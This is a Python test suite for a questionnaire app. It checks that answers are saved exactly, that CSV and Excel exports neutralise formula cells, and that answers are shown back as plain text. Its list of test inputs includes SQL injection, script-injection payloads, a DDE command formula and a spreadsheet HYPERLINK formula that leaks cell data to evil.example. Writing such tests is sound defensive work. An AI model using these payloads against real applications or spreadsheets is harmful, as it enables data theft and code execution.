"""Nasty text through the whole answer path: saved exactly (or refused with AnswerError), exported with
formulas neutralised, and shown back as plain text on the questionnaire page."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tools.apptest_helpers import logged_in_app
from tools.test_calendar import ROUND
from ui.questionnaire_form import widget_key
from yse_core import auth, responses
from yse_core.db import open_db
from yse_core.errors import AnswerError
from yse_core.exports.safe import xml_text
from yse_core.exports.workbook import round_long_csv, round_workbook_xlsx
from yse_core.questionnaire.models import TEXT_MAX_LENGTH

AREA = "helsinki"
QUESTION = "trends_process_description"  # a long_text question every area sees
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")

NASTY = {
    "long-20000": "Työllisyys " * (TEXT_MAX_LENGTH // 11) + "x" * (TEXT_MAX_LENGTH % 11),
    "long-single-word": "a" * TEXT_MAX_LENGTH,
    "control-chars": "".join(chr(c) for c in range(1, 32)) + "loppu",
    "nul-inside": "alku\x00keski\x00loppu",
    "nul-first": "\x00alku",
    "bell-and-escape": "piip\x07 \x1b[31mpunainen\x1b[0m",
    "rtl-override": "tiedosto\u202egpj.exe\u202c ok",
    "rtl-arabic-hebrew": "العمالة في هلسنكي שלום עולם",
    "emoji": "Työllisyys 📈🇫🇮 🎉",
    "zwj-family": "perhe 👨‍👩‍👧‍👦 ja 👩🏽‍💻 ja 🏳️‍🌈",
    "zero-width": "näky\u200bmätön\u200c\u200d\u2060väli",
    "sql-drop": "'; DROP TABLE answers; --",
    "sql-or": '" OR 1=1 --',
    "html-img": "<img src=x onerror=alert(1)>",
    "html-script": "<script>alert('xss')</script>",
    "html-entities": "&lt;b&gt; &amp; &#x3C;script&#x3E;",
    "markdown-link": "**x** [a](javascript:alert(1))",
    "markdown-heading-html": "# Otsikko\n\n<div style='color:red'>punainen</div>\n\n---",
    "streamlit-color": ":red[punainen] :material/warning: $\\LaTeX$",
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "formula-plus": "+1",
    "formula-minus": "-1",
    "formula-at": "@SUM(A1)",
    "formula-tab": "\t=1",
    "formula-cr": "\r=1+1",
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-after-space": " =1+1",
    "combining": "e\u0301 a\u0308 Z\u0351\u0352\u0357\u0358\u0359\u035a zalgo",
    "nfc-vs-nfd": "Ä (NFC) ja A\u0308 (NFD)",
    "nbsp-inside": "10\u00a0000\u00a0€",
    "bom-first": "\ufeffalussa BOM",
    "crlf-lines": "rivi 1\r\nrivi 2\r\n\r\nrivi 4",
    "cr-only": "rivi 1\rrivi 2",
    "unicode-line-sep": "rivi\u2028rivi\u2029kappale",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "astral-math": "𝕿𝖞ö 𝟙𝟚𝟛",
    "backslashes-quotes": "C:\\polku\\\"lainaus\" 'yksi' `back`",
    "json-looking": '{"value": null, "version": 99}',
    "percent-format": "%s %d {0} {name} %(x)s",
    "surrounding-space": "  välilyönnit ympärillä \n",
}

REFUSED = {
    "lone-surrogate": "rikki \ud800 unicode",
    "lone-low-surrogate": "\udfff",
    "too-long": "x" * (TEXT_MAX_LENGTH + 1),
}


def user(db, username: str = "demo-helsinki") -> auth.User:
    return auth.get_user(db, username)


def response_id(db, area_id: str = AREA) -> int:
    return responses.get_response_row(db, user(db, "demo-admin"), ROUND, area_id)["id"]


def test_there_are_at_least_thirty_nasty_strings():
    assert len(NASTY) + len(REFUSED) >= 30


@pytest.mark.parametrize("text", list(NASTY.values()), ids=list(NASTY))
def test_nasty_text_is_stored_exactly(demo_db, demo_db_path, text):
    saved = responses.save_answer(demo_db, user(demo_db), response_id(demo_db), QUESTION, text, base_version=0)
    assert saved.value == text
    fresh = open_db(demo_db_path)  # read back through a new connection, from the file
    stored = responses.load_answers(fresh, user(fresh), response_id(fresh))[QUESTION]
    history = responses.answer_history(fresh, user(fresh), response_id(fresh), QUESTION)
    fresh.close()
    assert stored.value == text and len(stored.value) == len(text)
    assert [h["new_value"] for h in history] == [text]


@pytest.mark.parametrize("text", list(REFUSED.values()), ids=list(REFUSED))
def test_unstorable_text_is_refused_with_a_clear_answer_error(demo_db, text):
    with pytest.raises(AnswerError) as refused:
        responses.save_answer(demo_db, user(demo_db), response_id(demo_db), QUESTION, text, base_version=0)
    message = str(refused.value)
    assert message and "Traceback" not in message
    assert responses.load_answers(demo_db, user(demo_db), response_id(demo_db)) == {}


@pytest.fixture
def nasty_round(demo_db):
    """Every nasty string saved as one area's answer (one area each, as that area's own respondent)."""
    area_ids = [r[0] for r in demo_db.execute("SELECT id FROM areas ORDER BY id")]
    assert len(area_ids) >= len(NASTY)
    saved = {}
    for area_id, (name, text) in zip(area_ids, NASTY.items(), strict=False):
        respondent = user(demo_db, f"demo-{area_id}")
        responses.save_answer(demo_db, respondent, response_id(demo_db, area_id), QUESTION, text, base_version=0)
        saved[name] = (area_id, text)
    return saved


def _assert_safe_cell(value: object, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(DANGEROUS_STARTS), f"{where}: {value[:40]!r}"


def test_long_csv_neutralises_every_cell(demo_db, nasty_round):
    data = round_long_csv(demo_db, user(demo_db, "demo-admin"), ROUND)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    for number, row in enumerate(rows):
        assert len(row) == len(header), f"row {number} has {len(row)} cells"
        for cell in row:
            _assert_safe_cell(cell, f"csv row {number}")
    value_column = header.index(next(h for h in header if h.lower().startswith(("vastaus", "arvo"))))
    by_area = {row[1]: row[value_column] for row in body if row[3] == QUESTION}
    for name, (area_id, text) in nasty_round.items():
        cell = by_area[area_id]
        expected = xml_text(text)
        if expected.startswith(DANGEROUS_STARTS):
            assert cell == "'" + expected, name
        else:
            assert cell == expected, name


def test_workbook_neutralises_every_cell_and_has_no_formulas(demo_db, nasty_round):
    data = round_workbook_xlsx(demo_db, user(demo_db, "demo-admin"), ROUND)
    workbook = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r:.60}"
                _assert_safe_cell(cell.value, f"{sheet.title}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for name, (_area, text) in nasty_round.items():
        expected = xml_text(text)
        if expected.startswith(DANGEROUS_STARTS):
            expected = "'" + expected
        # xlsx stores \r\n as is; openpyxl reads text back unchanged apart from XML-illegal characters
        assert expected in texts or expected.replace("\r\n", "\n") in texts or expected.replace("\r", "\n") in texts, name


@pytest.mark.parametrize(
    "name",
    [
        "html-script",
        "markdown-link",
        "formula-hyperlink",
        "rtl-override",
        "zwj-family",
        "crlf-lines",
        "control-chars",
        "long-20000",
        "streamlit-color",
    ],
)
def test_questionnaire_page_shows_the_nasty_text_back_as_text(demo_db, demo_db_path, name):
    text = NASTY[name]
    rid = response_id(demo_db)
    responses.save_answer(demo_db, user(demo_db), rid, QUESTION, text, base_version=0)
    app = logged_in_app(demo_db_path, "demo-helsinki")
    app.switch_page("pages/questionnaire.py").run()
    assert not app.exception, app.exception
    area = app.text_area(key=widget_key(rid, QUESTION))
    assert area.value == text


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.one_of(st.characters(), st.sampled_from(["\ud800", "\udfff", "\x00", "\u202e", "\r", "="])), max_size=300))
def test_any_text_is_stored_exactly_or_refused_with_answer_error(demo_db, text):
    rid, respondent = response_id(demo_db), user(demo_db)
    current = responses.load_answers(demo_db, respondent, rid).get(QUESTION)
    try:
        saved = responses.save_answer(demo_db, respondent, rid, QUESTION, text, base_version=current.version if current else 0)
    except AnswerError:
        assert any(0xD800 <= ord(c) <= 0xDFFF for c in text)
        return
    stored = responses.load_answers(demo_db, respondent, rid).get(QUESTION)
    if not text.strip():  # blank means "no answer": stored as cleared
        assert stored is None or stored.value is None
    else:
        assert stored.value == text == saved.value
